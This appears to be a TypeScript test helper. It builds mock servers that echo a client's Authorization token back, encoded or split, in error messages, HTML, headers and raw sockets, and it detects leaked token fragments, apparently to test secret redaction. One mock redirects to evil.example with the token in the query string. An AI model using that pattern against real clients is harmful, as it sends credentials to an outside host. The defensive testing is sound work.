/** Servers that give back the `Authorization` header that they were sent, and how to find it where it must not be. */
import type { Listener } from './odd-answers.ts'

/** What becomes of `token …` in the echo. */
export const bends: Readonly<Record<string, (sent: string) => string>> = {
  'as it is': (sent) => sent,
  'half of it': (sent) => sent.slice(0, sent.length - 16),
  'split by spaces': (sent) => sent.replace(/(.{3})/g, '$1 '),
  'in base64': (sent) => Buffer.from(sent).toString('base64'),
  'in hexadecimal': (sent) => Buffer.from(sent).toString('hex'),
}

const fails =
  (type: string, body: (said: string) => string) =>
  (said: string): Listener =>
  (request, response) =>
    void request.resume().on('end', () => {
      response.writeHead(500, said.replace(/[^ -~]/g, ''), {
        'content-type': type,
        'x-echo': encodeURI(said),
      })
      response.end(body(said))
    })

/** Where it stands in the answer; the first ones in its status line and a header as well. */
export const places: Readonly<Record<string, (said: string) => Listener>> = {
  'in a message': fails('application/json', (message) => JSON.stringify({ message })),
  'in a page': fails('text/html', (said) => `<p>${said}`),
  'in a redirect': (said) => (_, response) =>
    void response.writeHead(302, { location: `https://evil.example/?${encodeURIComponent(said)}` }).end(),
  'in what is no HTTP':
    (said) =>
    ({ socket }) =>
      void socket.end(`${said}\r\n\r\n`),
  'in what is no model': (said) => (_, response) =>
    void response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify([said])),
}

export const echoes =
  (bend: (sent: string) => string, place: (said: string) => Listener): Listener =>
  (request, response) =>
    place(bend(String(request.headers.authorization)))(request, response)

/** What of an echo can be found in a text: every eight characters in a row. */
export function partsIn(seen: string, echo: string): string[] {
  const runs = Array.from(echo, (_, at) => echo.slice(at, at + 8)).filter((run) => run.length === 8)
  return runs.filter((run) => seen.includes(run))
}
